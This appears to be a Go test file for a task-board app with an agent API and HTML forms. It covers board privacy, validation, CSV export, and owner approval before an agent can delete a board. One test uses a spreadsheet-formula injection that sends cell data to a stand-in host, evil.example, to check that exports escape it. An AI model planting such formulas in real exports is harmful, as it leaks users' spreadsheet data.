package main

import (
	"bytes"
	"encoding/json"
	"html/template"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	affordances "github.com/affordances/affordances-go"
	"github.com/affordances/affordances-go/conformance"
	"github.com/affordances/affordances-go/internal/browsertest"
)

// TestMain closes the shared Chromium after the tests.
func TestMain(m *testing.M) { os.Exit(browsertest.CloseShared(m.Run())) }

const demoToken = "board-test-token"

// testBoard serves a fresh, seeded board that deletes a board on an
// agent's confirm: true alone (-no-approval), as the bench runs it.
func testBoard(t *testing.T) (*Board, *httptest.Server) {
	t.Helper()
	return serveBoard(t, options{Token: demoToken, NoApproval: true}, nil)
}

// approvalBoard serves a fresh, seeded board whose deleteBoard an agent's
// call runs only after the owner's approval, as the board runs by default.
func approvalBoard(t *testing.T) (*Board, *httptest.Server) {
	t.Helper()
	return serveBoard(t, options{Token: demoToken}, nil)
}

// serveBoard serves a fresh board with opts, its handler wrapped in wrap
// when wrap is not nil, its database in a directory of the test's, until
// the test ends.
func serveBoard(t testing.TB, opts options, wrap func(http.Handler) http.Handler) (*Board, *httptest.Server) {
	t.Helper()
	db, err := openDB(t.Context(), filepath.Join(t.TempDir(), "board.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := db.Close(); err != nil {
			t.Errorf("closing the database: %v", err)
		}
	})
	b, err := newBoard(t.Context(), db, opts)
	if err != nil {
		t.Fatalf("newBoard: %v", err)
	}
	h := b.Handler()
	if wrap != nil {
		h = wrap(h)
	}
	srv := httptest.NewServer(h)
	t.Cleanup(srv.Close)
	return b, srv
}

// A client is an agent with a bearer token (or none), or a person's
// browser with a cookie jar that posts forms. It never follows redirects.
type client struct {
	t     *testing.T
	base  string
	token string
	hc    *http.Client
}

func newClient(t *testing.T, srv *httptest.Server, token string) *client {
	jar, _ := cookiejar.New(nil)
	return &client{t: t, base: srv.URL, token: token, hc: &http.Client{
		Jar:           jar,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
	}}
}

func (c *client) do(method, path, contentType string, body []byte) (*http.Response, []byte) {
	c.t.Helper()
	req, err := http.NewRequestWithContext(c.t.Context(), method, c.base+path, bytes.NewReader(body))
	if err != nil {
		c.t.Fatal(err)
	}
	if c.token != "" {
		req.Header.Set("Authorization", "Bearer "+c.token)
	}
	if contentType != "" {
		req.Header.Set("Content-Type", contentType)
		req.Header.Set("Origin", c.base)
	}
	if contentType == affordances.MediaType {
		req.Header.Set("Accept", affordances.MediaType)
	}
	resp, err := c.hc.Do(req)
	if err != nil {
		c.t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp, b
}

// graph GETs the graph of path.
func (c *client) graph(path string) (int, affordances.Graph) {
	c.t.Helper()
	req, _ := http.NewRequestWithContext(c.t.Context(), http.MethodGet, c.base+path, nil)
	req.Header.Set("Accept", affordances.MediaType)
	if c.token != "" {
		req.Header.Set("Authorization", "Bearer "+c.token)
	}
	resp, err := c.hc.Do(req)
	if err != nil {
		c.t.Fatal(err)
	}
	defer resp.Body.Close()
	var g affordances.Graph
	json.NewDecoder(resp.Body).Decode(&g)
	return resp.StatusCode, g
}

// call calls action on path with input.
func (c *client) call(path, action string, input any, confirm bool) (int, affordances.Delta) {
	c.t.Helper()
	body, _ := json.Marshal(map[string]any{"action": action, "input": input, "confirm": confirm})
	resp, b := c.do(http.MethodPost, path, affordances.MediaType, body)
	var d affordances.Delta
	if err := json.Unmarshal(b, &d); err != nil {
		c.t.Fatalf("%s on %s: not a delta (%d): %s", action, path, resp.StatusCode, b)
	}
	return resp.StatusCode, d
}

// post posts an HTML form to path, as a browser does from the site's own
// page.
func (c *client) post(path string, form url.Values) (*http.Response, string) {
	c.t.Helper()
	resp, b := c.do(http.MethodPost, path, "application/x-www-form-urlencoded", []byte(form.Encode()))
	return resp, string(b)
}

// page GETs the HTML of path.
func (c *client) page(path string) (int, string) {
	c.t.Helper()
	resp, b := c.do(http.MethodGet, path, "", nil)
	return resp.StatusCode, string(b)
}

// tasks returns the titles of the tasks of a board's graph, by status.
func tasks(g affordances.Graph) map[string][]string {
	out := map[string][]string{}
	list, _ := g.Entities["tasks"].([]any)
	for _, v := range list {
		m := v.(map[string]any)
		out[m["status"].(string)] = append(out[m["status"].(string)], m["title"].(string))
	}
	return out
}

// taskID returns the id of the task titled title in a board's graph.
func taskID(t *testing.T, g affordances.Graph, title string) int64 {
	t.Helper()
	list, _ := g.Entities["tasks"].([]any)
	for _, v := range list {
		if m := v.(map[string]any); m["title"] == title {
			return int64(m["id"].(float64))
		}
	}
	t.Fatalf("no task %q on %s", title, g.Page)
	return 0
}

// TestPrivacy: anyone reads and searches a public board; a private board
// is not found for anyone but its members, as a page, a graph, a call and
// a CSV.
func TestPrivacy(t *testing.T) {
	t.Parallel()
	_, srv := testBoard(t)
	anon, alice := newClient(t, srv, ""), newClient(t, srv, demoToken)
	carol := newClient(t, srv, "")
	if resp, _ := carol.post("/login", url.Values{"_action": {"signIn"}, "email": {"carol@example.com"}, "password": {"carol"}}); resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("carol signs in: got %d, want 303", resp.StatusCode)
	}
	for _, tc := range []struct {
		who    string
		c      *client
		path   string
		status int
	}{
		{"anonymous", anon, "/boards/website-relaunch", 200},
		{"anonymous", anon, "/boards/team-offsite", 404},
		{"carol, not a member", carol, "/boards/team-offsite", 404},
		{"alice, the owner", alice, "/boards/team-offsite", 200},
		{"anonymous", anon, "/boards/nowhere", 404},
	} {
		if status, _ := tc.c.graph(tc.path); status != tc.status {
			t.Errorf("%s: graph of %s: got %d, want %d", tc.who, tc.path, status, tc.status)
		}
		if status, _ := tc.c.page(tc.path); status != tc.status {
			t.Errorf("%s: page %s: got %d, want %d", tc.who, tc.path, status, tc.status)
		}
		if status, _ := tc.c.page(tc.path + "/tasks.csv"); status != tc.status {
			t.Errorf("%s: CSV of %s: got %d, want %d", tc.who, tc.path, status, tc.status)
		}
		if status, d := tc.c.call(tc.path, "search", map[string]any{"q": "the"}, false); status != tc.status {
			t.Errorf("%s: search %s: got %d %+v, want %d", tc.who, tc.path, status, d.Error, tc.status)
		}
	}
	if _, g := anon.graph("/boards"); len(g.Entities["yours"].([]any)) != 0 || len(g.Entities["public"].([]any)) != 1 {
		t.Errorf("anonymous /boards: got %v, want no board of yours and one public", g.Entities)
	}
	if _, g := alice.graph("/boards"); len(g.Entities["yours"].([]any)) != 2 {
		t.Errorf("alice's /boards: got %v, want her two boards", g.Entities)
	}
	status, d := anon.call("/boards/website-relaunch", "createTask", map[string]any{"title": "Sneak in"}, false)
	if status != http.StatusUnauthorized || d.Error.Code != affordances.Unauthorized {
		t.Errorf("anonymous createTask: got %d %+v, want 401 unauthorized", status, d.Error)
	}
	status, d = carol.call("/boards/website-relaunch", "inviteMember", map[string]any{"email": "bob@example.com"}, false)
	if status != http.StatusConflict || d.Error.Message != "Only the board's owner can do this." {
		t.Errorf("carol invites on alice's board: got %d %+v, want 409 and the guard's reason", status, d.Error)
	}
}

// TestEmailsOnlyToMembers: members of a public board read each other's
// email addresses in its graph, page, search and CSV; anyone else reads
// their names only (issue 25).
func TestEmailsOnlyToMembers(t *testing.T) {
	t.Parallel()
	_, srv := testBoard(t)
	const page = "/boards/website-relaunch"
	for _, tc := range []struct {
		who    string
		c      *client
		emails bool
	}{
		{"anonymous", newClient(t, srv, ""), false},
		{"alice, a member", newClient(t, srv, demoToken), true},
	} {
		_, g := tc.c.graph(page)
		graph, _ := json.Marshal(g.Entities)
		_, html := tc.c.page(page)
		_, csv := tc.c.page(page + "/tasks.csv")
		_, d := tc.c.call(page, "search", map[string]any{"q": "the"}, false)
		found, _ := json.Marshal(d.Output)
		for _, doc := range []struct{ name, body string }{
			{"graph", string(graph)}, {"page", html}, {"CSV", csv}, {"search's output", string(found)},
		} {
			for _, name := range []string{"Bob", "Carol"} {
				if !strings.Contains(doc.body, name) {
					t.Errorf("%s: the %s does not name %s, a member", tc.who, doc.name, name)
				}
			}
			if got := strings.Contains(doc.body, "carol@example.com"); got != tc.emails {
				t.Errorf("%s: the %s shows carol@example.com: got %v, want %v\n%.2000s", tc.who, doc.name, got, tc.emails, doc.body)
			}
		}
	}
}

// TestAgentTasks: an agent with alice's token creates, finds, moves and
// deletes a task; a date that is not one, and an assignee who is no
// member, are invalid input at their field.
func TestAgentTasks(t *testing.T) {
	t.Parallel()
	_, srv := testBoard(t)
	alice := newClient(t, srv, demoToken)
	const page = "/boards/team-offsite"

	for _, tc := range []struct {
		name  string
		input map[string]any
		path  string
	}{
		{"no such day", map[string]any{"title": "Pack", "due": "2026-02-30"}, "/due"},
		{"not a date", map[string]any{"title": "Pack", "due": "next week"}, "/due"},
		{"not a member", map[string]any{"title": "Pack", "assignee": "carol@example.com"}, "/assignee"},
		{"no title", map[string]any{"title": ""}, "/title"},
	} {
		status, d := alice.call(page, "createTask", tc.input, false)
		if status != http.StatusBadRequest || d.Error == nil || d.Error.Code != affordances.InvalidInput ||
			len(d.Error.Issues) == 0 || d.Error.Issues[0].Path != tc.path {
			t.Errorf("%s: got %d %+v, want 400 invalid_input at %s", tc.name, status, d.Error, tc.path)
		}
	}

	status, d := alice.call(page, "createTask", map[string]any{"title": "Pack the games", "assignee": "bob@example.com", "due": "2026-06-01"}, false)
	if status != http.StatusOK || !d.OK || d.Message != `Added "Pack the games" to To do.` {
		t.Fatalf("createTask: got %d %+v", status, d)
	}
	_, g := alice.graph(page)
	if !slices.Contains(tasks(g)["todo"], "Pack the games") {
		t.Fatalf("after createTask the todo column is %v", tasks(g)["todo"])
	}
	id := taskID(t, g, "Pack the games")

	status, d = alice.call(page, "search", map[string]any{"q": "games"}, false)
	if status != http.StatusOK || d.Redirect != page+"?q=games" || d.Message != `Found 1 task for "games".` {
		t.Errorf("search: got %d %+v", status, d)
	}
	if _, g := alice.graph(page + "?q=games"); len(g.Entities["tasks"].([]any)) != 1 || g.Entities["query"] != "games" {
		t.Errorf("the search's redirect: got %v, want the one task", g.Entities)
	}
	// A search ignores the case of ASCII letters, and finds other letters
	// as they are written, on either back end.
	if status, d := alice.call(page, "createTask", map[string]any{"title": "Visit the École"}, false); status != http.StatusOK {
		t.Fatalf("createTask: got %d %+v", status, d)
	}
	for _, q := range []string{"GAMES", "École"} {
		if _, g := alice.graph(page + "?q=" + url.QueryEscape(q)); len(g.Entities["tasks"].([]any)) != 1 {
			t.Errorf("search %q: got %v, want one task", q, g.Entities["tasks"])
		}
	}

	if status, d = alice.call(page, "moveTask", map[string]any{"task": id, "status": "done"}, false); status != http.StatusOK || !d.OK {
		t.Fatalf("moveTask: got %d %+v", status, d)
	}
	if _, g = alice.graph(page); !slices.Contains(tasks(g)["done"], "Pack the games") {
		t.Errorf("after moveTask the done column is %v", tasks(g)["done"])
	}
	if status, d = alice.call(page, "moveTask", map[string]any{"task": id, "status": "later"}, false); status != http.StatusBadRequest {
		t.Errorf("moveTask to a column that is not one: got %d %+v, want 400", status, d)
	}
	if status, d = alice.call("/boards/website-relaunch", "deleteTask", map[string]any{"task": id}, false); status != http.StatusNotFound {
		t.Errorf("deleteTask of another board's task: got %d %+v, want 404", status, d)
	}
	if status, d = alice.call(page, "deleteTask", map[string]any{"task": id}, false); status != http.StatusOK || d.Message != `Deleted "Pack the games".` {
		t.Fatalf("deleteTask: got %d %+v", status, d)
	}
	if _, g = alice.graph(page); slices.Contains(tasks(g)["done"], "Pack the games") {
		t.Errorf("after deleteTask the done column is %v", tasks(g)["done"])
	}
}

// TestAgentBoard: the owner invites a member, exports the board as CSV,
// and deletes it only with confirm: true, after a summary with the real
// count of tasks.
func TestAgentBoard(t *testing.T) {
	t.Parallel()
	_, srv := testBoard(t)
	alice := newClient(t, srv, demoToken)
	const page = "/boards/team-offsite"

	status, d := alice.call(page, "inviteMember", map[string]any{"email": "carol@example.com"}, false)
	if status != http.StatusOK || d.Message != "Carol is now a member of this board." {
		t.Fatalf("inviteMember: got %d %+v", status, d)
	}
	if status, d = alice.call(page, "inviteMember", map[string]any{"email": "carol@example.com"}, false); status != http.StatusConflict {
		t.Errorf("inviting a member again: got %d %+v, want 409", status, d)
	}
	if status, d = alice.call(page, "inviteMember", map[string]any{"email": "dan@example.com"}, false); status != http.StatusBadRequest || d.Error.Issues[0].Path != "/email" {
		t.Errorf("inviting someone without an account: got %d %+v, want 400 at /email", status, d)
	}

	// A title a spreadsheet would run as a formula is exported as text.
	if status, d = alice.call(page, "createTask", map[string]any{"title": `=HYPERLINK("https://evil.example/?"&A1,"open")`}, false); status != http.StatusOK {
		t.Fatalf("createTask: got %d %+v", status, d)
	}
	status, d = alice.call(page, "exportTasks", nil, false)
	if status != http.StatusOK || d.Redirect != page+"/tasks.csv" {
		t.Fatalf("exportTasks: got %d %+v", status, d)
	}
	resp, csv := alice.do(http.MethodGet, d.Redirect, "", nil)
	if resp.StatusCode != http.StatusOK || resp.Header.Get("Content-Type") != "text/csv; charset=utf-8" ||
		!strings.HasPrefix(string(csv), "id,title,status,assignee,assignee_email,due\n") || !strings.Contains(string(csv), ",Reserve the cottage,done,Alice,alice@example.com,") ||
		!strings.Contains(string(csv), `,"'=HYPERLINK(""https://evil.example/?""&A1,""open"")",todo,`) {
		t.Errorf("the CSV: got %d %q\n%s", resp.StatusCode, resp.Header.Get("Content-Type"), csv)
	}

	status, d = alice.call(page, "deleteBoard", nil, false)
	if status != http.StatusPreconditionRequired || d.Error.Code != affordances.ConfirmRequired || d.Error.Message != `Delete the board "Team offsite" and its 6 tasks.` {
		t.Fatalf("deleteBoard without confirm: got %d %+v", status, d.Error)
	}
	if status, _ := alice.graph(page); status != http.StatusOK {
		t.Fatalf("after an unconfirmed deleteBoard the board answers %d, want 200", status)
	}
	status, d = alice.call(page, "deleteBoard", nil, true)
	if status != http.StatusOK || d.Redirect != "/boards" {
		t.Fatalf("deleteBoard: got %d %+v", status, d)
	}
	if status, _ := alice.graph(page); status != http.StatusNotFound {
		t.Errorf("after deleteBoard the board answers %d, want 404", status)
	}
}

// TestDeleteBoardNeedsApproval: on the board as the demo runs it, an
// agent's confirm: true alone deletes no board (docs/protocol.md decision 10,
// human-verified confirmation): the call gets the URL of an approval page,
// where alice, signed in in her browser, reads the summary and approves;
// then the same call deletes the board. Her own form's confirmation needs
// no approval page.
func TestDeleteBoardNeedsApproval(t *testing.T) {
	t.Parallel()
	_, srv := approvalBoard(t)
	agent := newClient(t, srv, demoToken)
	const page = "/boards/team-offsite"
	const summary = `Delete the board "Team offsite" and its 5 tasks.`

	var link string
	for _, confirm := range []bool{false, true} {
		status, d := agent.call(page, "deleteBoard", nil, confirm)
		if status != http.StatusPreconditionRequired || d.Error == nil || d.Error.Code != affordances.ConfirmRequired ||
			!strings.HasPrefix(d.Error.Message, summary) || d.Approval == nil || !strings.HasPrefix(d.Approval.URL, affordances.ApprovalsPath) {
			t.Fatalf("deleteBoard with confirm %v, before any approval: got %d %+v, approval %+v; want 428 confirm_required, the summary and an approval page",
				confirm, status, d.Error, d.Approval)
		}
		if link != "" && d.Approval.URL != link {
			t.Errorf("the same call asked twice: approvals %s and %s, want one", link, d.Approval.URL)
		}
		link = d.Approval.URL
	}
	if status, _ := agent.graph(page); status != http.StatusOK {
		t.Fatalf("the board before alice approved: got %d, want 200", status)
	}

	alice := newClient(t, srv, "")
	if resp, _ := alice.post("/login", url.Values{"_action": {"signIn"}, "email": {demoEmail}, "password": {demoPassword}}); resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("alice signs in: got %d, want 303", resp.StatusCode)
	}
	if status, html := alice.page(link); status != http.StatusOK || !strings.Contains(html, template.HTMLEscapeString(summary)) {
		t.Errorf("alice opens the approval page: got %d, want 200 and the summary\n%s", status, html)
	}
	if resp, html := alice.post(link, url.Values{"decision": {"approve"}}); resp.StatusCode != http.StatusOK || !strings.Contains(html, "Approved.") {
		t.Fatalf("alice approves: got %d, want 200 and Approved.\n%s", resp.StatusCode, html)
	}
	if status, d := agent.call(page, "deleteBoard", nil, true); status != http.StatusOK || d.Redirect != "/boards" {
		t.Fatalf("deleteBoard with confirm: true, approved: got %d %+v, want 200 and the redirect to /boards", status, d)
	}
	if status, _ := agent.graph(page); status != http.StatusNotFound {
		t.Errorf("the board after the approved call: got %d, want 404", status)
	}

	const other = "/boards/website-relaunch"
	if resp, html := alice.post(other, url.Values{"_action": {"deleteBoard"}}); resp.StatusCode != http.StatusOK || !strings.Contains(html, `name="_confirm"`) {
		t.Fatalf("alice's form: got %d, want the confirmation page\n%s", resp.StatusCode, html)
	}
	if resp, _ := alice.post(other, url.Values{"_action": {"deleteBoard"}, "_confirm": {"yes"}}); resp.StatusCode != http.StatusSeeOther {
		t.Errorf("alice confirms her own form: got %d, want 303, no approval page", resp.StatusCode)
	}
	if status, _ := agent.graph(other); status != http.StatusNotFound {
		t.Errorf("the board alice deleted by her form: got %d, want 404", status)
	}
}

// TestForms: a person's forms run the same actions, with a session cookie
// from the sign-in form: a task is created (303 back to the board, whose
// page says so), empty optional fields are absent ones, a bad date shows the page again with 400, the issue and
// what they typed, and deleting the board first asks, deleting nothing.
func TestForms(t *testing.T) {
	t.Parallel()
	_, srv := testBoard(t)
	alice := newClient(t, srv, "")
	const page = "/boards/website-relaunch"

	resp, _ := alice.post("/login", url.Values{"_action": {"signIn"}, "email": {demoEmail}, "password": {"wrong"}})
	if resp.StatusCode != http.StatusUnauthorized {
		t.Errorf("a wrong password: got %d, want 401", resp.StatusCode)
	}
	resp, _ = alice.post("/login", url.Values{"_action": {"signIn"}, "email": {demoEmail}, "password": {demoPassword}})
	if resp.StatusCode != http.StatusSeeOther || resp.Header.Get("Location") != "/boards" {
		t.Fatalf("sign in: got %d to %q, want 303 to /boards", resp.StatusCode, resp.Header.Get("Location"))
	}

	resp, _ = alice.post(page, url.Values{"_action": {"createTask"}, "title": {"Order the banners"}, "assignee": {"bob@example.com"}, "due": {"2026-05-04"}})
	if resp.StatusCode != http.StatusSeeOther || resp.Header.Get("Location") != page {
		t.Fatalf("createTask form: got %d to %q, want 303 to %s", resp.StatusCode, resp.Header.Get("Location"), page)
	}
	if status, html := alice.page(page); status != http.StatusOK || !strings.Contains(html, `Added &#34;Order the banners&#34; to To do.`) || !strings.Contains(html, "<h3>Order the banners</h3>") {
		t.Errorf("the board after the form: got %d, want the message and the card\n%s", status, html)
	}

	resp, _ = alice.post(page, url.Values{"_action": {"createTask"}, "title": {"Call the printer"}, "assignee": {""}, "due": {""}})
	if resp.StatusCode != http.StatusSeeOther {
		t.Errorf("createTask form with no assignee and no date (empty fields): got %d, want 303", resp.StatusCode)
	}

	resp, html := alice.post(page, url.Values{"_action": {"createTask"}, "title": {"Print the flyers"}, "due": {"2026-13-01"}})
	if resp.StatusCode != http.StatusBadRequest || !strings.Contains(html, `class="issue"`) || !strings.Contains(html, `value="Print the flyers"`) || !strings.Contains(html, `value="2026-13-01"`) {
		t.Errorf("a bad due date: got %d, want 400 with the issue and the values kept\n%s", resp.StatusCode, html)
	}

	resp, html = alice.post(page, url.Values{"_action": {"deleteBoard"}})
	if resp.StatusCode != http.StatusOK || !strings.Contains(html, `Delete the board &#34;Website relaunch&#34; and its 9 tasks.`) || !strings.Contains(html, `name="_confirm"`) {
		t.Fatalf("deleteBoard form without confirmation: got %d, want the summary and a confirm button\n%s", resp.StatusCode, html)
	}
	if status, _ := alice.page(page); status != http.StatusOK {
		t.Fatalf("the board after an unconfirmed delete: got %d, want 200", status)
	}
	resp, _ = alice.post(page, url.Values{"_action": {"deleteBoard"}, "_confirm": {"yes"}})
	if resp.StatusCode != http.StatusSeeOther || resp.Header.Get("Location") != "/boards" {
		t.Fatalf("confirmed deleteBoard: got %d to %q, want 303 to /boards", resp.StatusCode, resp.Header.Get("Location"))
	}
	if status, _ := alice.page(page); status != http.StatusNotFound {
		t.Errorf("the deleted board: got %d, want 404", status)
	}
}

// TestFormFields: a form that failed shows each of its inputs again with
// what the person typed, marked invalid and with its issue beside it where
// the site found one (sign-in included); a password is never written back.
func TestFormFields(t *testing.T) {
	t.Parallel()
	_, srv := testBoard(t)
	alice := newClient(t, srv, "")
	if resp, _ := alice.post("/login", url.Values{"_action": {"signIn"}, "email": {demoEmail}, "password": {demoPassword}}); resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("alice signs in: got %d, want 303", resp.StatusCode)
	}
	for _, tc := range []struct {
		name     string
		c        *client
		path     string
		form     url.Values
		invalid  string // the start of the tag of the input marked aria-invalid
		issue    string
		kept     []string
		notShown string
	}{
		{"an email too short to sign in", newClient(t, srv, ""), "/login",
			url.Values{"_action": {"signIn"}, "email": {"a"}, "password": {"typed-password"}},
			`<input name="email" aria-invalid="true"`, "must be at least", []string{`type="email" value="a"`}, "typed-password"},
		{"an assignee who is no member", alice, "/boards/team-offsite",
			url.Values{"_action": {"createTask"}, "title": {"Book the bus"}, "assignee": {"carol@example.com"}},
			`<select name="assignee" aria-invalid="true"`, "The assignee must be a member of the board.", []string{`value="Book the bus"`}, ""},
		{"an invitation to no account", alice, "/boards/team-offsite",
			url.Values{"_action": {"inviteMember"}, "email": {"dan@example.com"}},
			`<input name="email" aria-invalid="true"`, "No one has an account with that email.", []string{`type="email" value="dan@example.com"`}, ""},
	} {
		resp, html := tc.c.post(tc.path, tc.form)
		if resp.StatusCode != http.StatusBadRequest {
			t.Errorf("%s: got %d, want 400", tc.name, resp.StatusCode)
		}
		tag, _, _ := strings.Cut(html[max(strings.Index(html, tc.invalid), 0):], ">")
		if !strings.HasPrefix(tag, tc.invalid) || !strings.Contains(tag, `aria-invalid="true"`) {
			t.Errorf("%s: the input is %q, want %s… marked aria-invalid\n%s", tc.name, tag, tc.invalid, html)
		}
		if !strings.Contains(html, `<span class="issue">`+template.HTMLEscapeString(tc.issue)) {
			t.Errorf("%s: no issue saying %q beside the input\n%s", tc.name, tc.issue, html)
		}
		for _, v := range tc.kept {
			if !strings.Contains(html, v) {
				t.Errorf("%s: the page lost %s\n%s", tc.name, v, html)
			}
		}
		if tc.notShown != "" && strings.Contains(html, tc.notShown) {
			t.Errorf("%s: the page shows %q", tc.name, tc.notShown)
		}
	}
}

// TestConformance runs the conformance suite against a fresh board as the
// demo runs it, with writes and alice's token: every check passes or says
// why it skipped.
func TestConformance(t *testing.T) {
	t.Parallel()
	_, srv := approvalBoard(t)
	rep := conformance.Run(t.Context(), srv.URL, &conformance.Options{Token: demoToken, AllowWrites: true})
	for _, c := range rep.Checks {
		switch c.Outcome {
		case conformance.Fail:
			t.Errorf("%s (%s) failed: %s%s", c.ID, c.Level, c.Reason, c.Evidence)
		case conformance.Skip:
			t.Logf("%s skipped: %s", c.ID, c.Reason)
		}
	}
	t.Logf("pages: %s", strings.Join(rep.Pages, " "))
}
